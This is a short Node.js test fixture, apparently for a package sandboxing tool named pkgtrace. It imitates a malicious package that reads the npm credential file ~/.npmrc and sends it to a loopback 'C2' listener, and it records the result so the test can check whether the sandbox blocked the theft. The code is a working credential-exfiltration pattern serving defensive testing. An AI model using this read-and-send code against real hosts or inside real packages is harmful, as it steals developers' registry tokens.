// Harmless reproduction: reads the bait ~/.npmrc and uploads it to the
// loopback "C2" (127.0.0.1:9999) inside the test's own network namespace.
// What it could read goes to $APPROVE_WITNESS as well, so the test sees,
// from outside pkgtrace, whether the secret was readable.
const fs = require('fs');
const os = require('os');
const net = require('net');
const path = require('path');
let loot;
try { loot = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) { loot = 'ERR ' + e.code; }
if (process.env.APPROVE_WITNESS) fs.appendFileSync(process.env.APPROVE_WITNESS, 'npmrc: ' + JSON.stringify(loot) + '\n');
const s = net.connect(9999, '127.0.0.1', () => s.end(loot + '\n'));
s.on('error', (e) => { if (process.env.APPROVE_WITNESS) fs.appendFileSync(process.env.APPROVE_WITNESS, 'connect: ' + e.code + '\n'); });
s.setTimeout(3000, () => s.destroy());
